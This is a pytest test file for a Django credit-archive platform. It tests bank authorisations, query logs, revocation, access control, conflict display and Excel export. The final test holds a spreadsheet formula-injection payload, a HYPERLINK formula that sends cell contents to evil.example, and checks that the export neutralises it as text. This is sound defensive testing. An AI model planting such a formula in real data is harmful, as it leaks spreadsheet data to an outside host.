import datetime as dt

import pytest
from django.urls import reverse
from django.utils import timezone

from xinrong.credit.models import Authorisation, QueryLog

pytestmark = pytest.mark.django_db


def _download(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_enterprise_grants_then_bank_reads_and_the_read_is_in_the_log(
    client, facts, entity, enterprise_user, bank_officer
):
    client.force_login(bank_officer)
    page = client.get(reverse("credit:archive", args=[entity.uscc])).content.decode()
    assert 'data-category="tax"' not in page and 'id="no-auth-banner"' in page
    client.force_login(enterprise_user)
    response = client.post(
        reverse("credit:authorisations"),
        {
            "institution": bank_officer.organisation.pk,
            "scope": "full",
            "purpose": "loan_application",
            "purpose_note": "",
            "expires_on": (timezone.localdate() + dt.timedelta(days=30)).isoformat(),
        },
    )
    assert response.status_code == 302
    client.force_login(bank_officer)
    page = client.get(reverse("credit:archive", args=[entity.uscc])).content.decode()
    assert 'data-category="tax"' in page and 'id="auth-banner"' in page
    client.force_login(enterprise_user)
    log = client.get(reverse("credit:query_log")).content.decode()
    assert bank_officer.organisation.name in log and "纳税" in log
    assert QueryLog.objects.count() == 1


def test_grant_errors_are_shown_on_the_field(client, entity, enterprise_user, bank_officer):
    client.force_login(enterprise_user)
    response = client.post(
        reverse("credit:authorisations"),
        {
            "institution": bank_officer.organisation.pk,
            "scope": "chosen",
            "purpose": "loan_application",
            "expires_on": "2099-01-01",
        },
    )
    body = response.content.decode()
    assert response.status_code == 200
    assert "指定类别时须至少选择一个有效类别" in body
    assert not Authorisation.objects.exists()


def test_enterprise_revokes_after_confirming(client, entity, enterprise_user, bank_officer):
    client.force_login(enterprise_user)
    client.post(
        reverse("credit:authorisations"),
        {
            "institution": bank_officer.organisation.pk,
            "scope": "full",
            "purpose": "post_loan",
            "expires_on": (timezone.localdate() + dt.timedelta(days=5)).isoformat(),
        },
    )
    auth = Authorisation.objects.get()
    page = client.get(reverse("credit:authorisations")).content.decode()
    assert f'id="revoke-{auth.pk}"' in page and 'name="confirm" value="yes"' in page
    # a press without the confirmation asks first and changes nothing
    ask = client.post(reverse("credit:revoke", args=[auth.pk]))
    assert ask.status_code == 200 and 'id="revoke-confirm"' in ask.content.decode()
    auth.refresh_from_db()
    assert auth.revoked_at is None
    client.post(reverse("credit:revoke", args=[auth.pk]), {"confirm": "yes"})
    auth.refresh_from_db()
    assert auth.revoked_at is not None


def test_bank_cannot_open_the_enterprise_pages(client, bank_officer):
    client.force_login(bank_officer)
    assert client.get(reverse("credit:authorisations")).status_code == 403
    assert client.get(reverse("credit:query_log")).status_code == 403


def test_enterprise_sees_its_conflicts_and_the_bank_does_not(
    client, entity, enterprise_user, bank_officer, make_user
):
    import io

    from xinrong.datahub.services.ingest import batch_ingest
    from xinrong.datahub.services.sources import source_create

    dept = make_user("government", ["data_provider"])
    src = source_create(
        code="tax2", name="税务", organisation=dept.organisation, categories=["tax"]
    )
    text = f"统一社会信用代码,所属期,实缴税额（元）,法定代表人\n{entity.uscc},2024-06,1,别人\n"
    batch_ingest(
        source=src,
        category="tax",
        fileobj=io.BytesIO(text.encode()),
        filename="t.csv",
        channel="cli",
    )
    client.force_login(enterprise_user)
    page = client.get(reverse("credit:archive", args=[entity.uscc])).content.decode()
    assert 'id="conflicts"' in page and "法定代表人不一致" in page
    client.force_login(bank_officer)
    page = client.get(reverse("credit:archive", args=[entity.uscc])).content.decode()
    assert 'id="conflicts"' not in page


def test_export_follows_the_authorisation_and_is_logged_as_export(
    client, facts, entity, enterprise_user, bank_officer
):
    import io

    from openpyxl import load_workbook

    from xinrong.credit.services.archive import authorisation_grant

    client.force_login(bank_officer)
    url = reverse("credit:archive_export", args=[entity.uscc])
    sheets = load_workbook(io.BytesIO(_download(client.get(url)))).sheetnames
    assert "纳税" not in sheets and "行政处罚" in sheets
    assert not QueryLog.objects.exists()
    authorisation_grant(
        entity=entity,
        actor=enterprise_user,
        institution=bank_officer.organisation,
        scope="full",
        purpose="post_loan",
        expires_on=timezone.localdate() + dt.timedelta(days=3),
    )
    wb = load_workbook(io.BytesIO(_download(client.get(url))))
    rows = list(wb["纳税"].iter_rows(values_only=True))
    assert rows[0][1] == "所属期" and rows[1][1] == "2024-06"
    assert QueryLog.objects.get().channel == "export"


def test_archive_and_export_with_a_malformed_code_explain_the_fault(client, bank_officer):
    client.force_login(bank_officer)
    for name in ("credit:archive", "credit:archive_export"):
        response = client.get(reverse(name, args=["9163"]))
        assert response.status_code == 422
        assert "18" in response.content.decode()
    assert not QueryLog.objects.exists()


def test_enterprise_sees_its_portrait_page_and_operator_the_model_pages(
    client, enterprise_user, operator, bank_officer
):
    from xinrong.credit.models import ScoreModel
    from xinrong.credit.services.scoring import model_activate, profiles_score
    from xinrong.credit.tests.test_scoring import _card

    model = ScoreModel.objects.create(version=1, name="测试卡", card=_card().to_json())
    model_activate(model=model, actor=None)
    entity = enterprise_user.organisation.market_entity
    profiles_score(entity_ids=[entity.pk])
    client.force_login(enterprise_user)
    page = client.get("/credit/portrait/", follow=True)
    assert page.status_code == 200
    html = page.content.decode()
    assert "信用画像" in html and 'id="score"' in html and 'id="improvements"' in html
    assert client.get("/credit/models/").status_code == 403
    client.force_login(bank_officer)
    assert client.get(f"/credit/portrait/{entity.uscc}/").status_code == 403
    client.force_login(operator)
    listing = client.get("/credit/models/").content.decode()
    assert "v1" in listing and "测试卡" in listing
    detail = client.get("/credit/models/1/").content.decode()
    assert 'data-feature="tax_grade"' in detail and "activated" in detail
    assert client.get("/credit/models/9/").status_code == 404


def test_archive_export_writes_formula_like_values_as_text(client, entity, bank_officer, make_user):
    """A department's "=HYPERLINK(…)" in a fact comes back as text, never a live formula."""
    import io

    from openpyxl import load_workbook

    from xinrong.datahub.services.ingest import batch_ingest
    from xinrong.datahub.services.sources import source_create

    dept = make_user("government", ["data_provider"])
    src = source_create(
        code="court", name="法院", organisation=dept.organisation, categories=["penalty"]
    )
    payload = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    quoted = payload.replace('"', '""')
    pen = (
        "统一社会信用代码,决定书文号,严重程度,处罚日期\n"
        f'{entity.uscc},"{quoted}",minor,2024-05-01\n'
    )
    batch_ingest(
        source=src,
        category="penalty",
        fileobj=io.BytesIO(pen.encode()),
        filename="p.csv",
        channel="cli",
    )
    client.force_login(bank_officer)
    response = client.get(reverse("credit:archive_export", args=[entity.uscc]))
    ws = load_workbook(io.BytesIO(_download(response)))["行政处罚"]
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value == "'" + payload]
    assert cells, [[c.value for c in row] for row in ws.iter_rows()]
    assert all(c.data_type == "s" for c in cells)
